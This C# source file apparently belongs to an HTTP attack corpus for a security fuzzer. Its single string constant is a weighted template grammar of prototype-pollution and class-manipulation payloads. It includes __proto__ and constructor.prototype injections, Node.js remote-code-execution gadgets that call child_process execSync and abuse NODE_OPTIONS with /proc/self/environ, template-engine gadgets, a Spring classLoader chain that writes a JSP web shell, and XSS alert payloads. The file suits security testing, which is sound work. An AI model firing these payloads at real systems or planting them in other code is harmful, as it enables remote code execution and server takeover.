namespace Weir.Http.Corpus.Attacks.Other;

/// <summary>Keys that reach the prototype of objects, or the class behind a bean.</summary>
/// <remarks>CAPEC-180, CWE-1321, CWE-915; ECMA-262 (__proto__, constructor).</remarks>
internal static class Prototypes
{
    public const string Text = """"
        §proto
        5× {"__proto__":«sp»{«pollution»}}
        3× {"constructor":«sp»{"prototype":«sp»{«pollution»}}}
        4× «protopath»=«pvalue»
        3× __proto__[«pname»]=«pvalue»
        3× ?__proto__«[«pname»]¦.«pname»»=«pvalue»
        2× constructor[prototype][«pname»]=«pvalue»
        2× constructor.prototype.«pname»=«pvalue»
        2× "__proto__":{«pollution»}
        {"«word»":{"__proto__":{«pollution»}}}
        {"«word»":"«word»","__proto__":{«pollution»}}
        #__proto__[«pname»]=«pvalue»
        «word»[__proto__][«pname»]=«pvalue»
        «word».__proto__.«pname»=«pvalue»
        __pro__proto__to__[«pname»]=«pvalue»
        {"__proto__.«pname»":"«pvalue»"}
        {"constructor.prototype.«pname»":"«pvalue»"}
        ["__proto__"]["«pname»"]
        [__proto__][«pname»]=«pvalue»
        x[constructor][prototype][«pname»]=«pvalue»
        {"\u005f\u005fproto\u005f\u005f":{«pollution»}}
        {"__proto__":null}
        {"path":"__proto__.«pname»","value":"«pvalue»"}
        [{"op":"add","path":"/__proto__/«pname»","value":"«pvalue»"}]
        Object.«__proto__¦prototype».«pname»=«pvalue»
        Object.prototype.«pname»='«pvalue»'
        __proto__«→url»«¦[«pname»]=«pvalue»»
        class.module.classLoader.resources.context.parent.pipeline.first.«pattern=%25%7Bc2%7Di%20if¦suffix=.jsp¦directory=webapps/ROOT¦prefix=«rand»¦fileDateFormat=»
        class.«module.»classLoader.«URLs[0]=«evilurl»¦DefaultAssertionStatus=«rand»»
        __class__.__init__.__globals__.«app¦«word»».«pname»=«pvalue»
        §sp
        ␠
        2×
        §protopath
        __proto__.«pname»
        constructor.prototype.«pname»
        __proto__.«word».«pname»
        __proto__.__proto__.«pname»
        «word».constructor.prototype.«pname»
        __proto__
        §pname
        4× «isAdmin¦admin¦role¦polluted¦test¦foo¦x¦testparam¦status¦json spaces¦exposedHeaders¦toString»
        «shell¦NODE_OPTIONS¦env¦argv0¦execArgv¦outputFunctionName¦client¦escapeFunction¦block¦srcdoc¦onload¦src¦innerHTML¦transport_url¦html¦sourceURL¦headers¦whitelist¦url¦dataType¦evalFunction¦hitCallback¦CLOSURE_BASE_PATH¦ALLOWED_ATTR¦BOOMR¦documentMode¦4¦sequence¦value»
        «rand»
        §pvalue
        4× «true¦1¦polluted¦«rand»¦admin¦yes¦510¦reserved»
        <img/src/onerror=alert(«#1-9»)>
        data:,alert(«#1-9»)//
        alert(«#1-9»)
        «evilurl»
        --require /proc/self/environ
        --eval=require('child_process').execSync('«shellcmd»')
        process.mainModule.require('child_process').execSync('«shellcmd»');x
        §pollution
        5× "«pname»":«sp»«true¦1¦"«pvalue»"¦"«rand»"»
        "shell":"«node¦/proc/self/exe¦vim»","NODE_OPTIONS":"--«inspect=«oasthost»¦require /proc/self/environ»"
        "env":{"EVIL":"console.log(require('child_process').execSync('«shellcmd»').toString())//"},"NODE_OPTIONS":"--require /proc/self/environ"
        "outputFunctionName":"«letter»;process.mainModule.require('child_process').execSync('«shellcmd»');«letter»"
        "execArgv":["--eval=require('child_process').execSync('«shellcmd»')"]
        "«pname»":"«pvalue»","«pname»":"«pvalue»"
        "client":1,"escapeFunction":"JSON.stringify;process.mainModule.require('child_process').exec('«shellcmd»')"
        "block":{"type":"Text","line":"process.mainModule.require('child_process').execSync('«shellcmd»')"}
        "status":«#400-599»
        "toString":"«rand»"
        """";
}
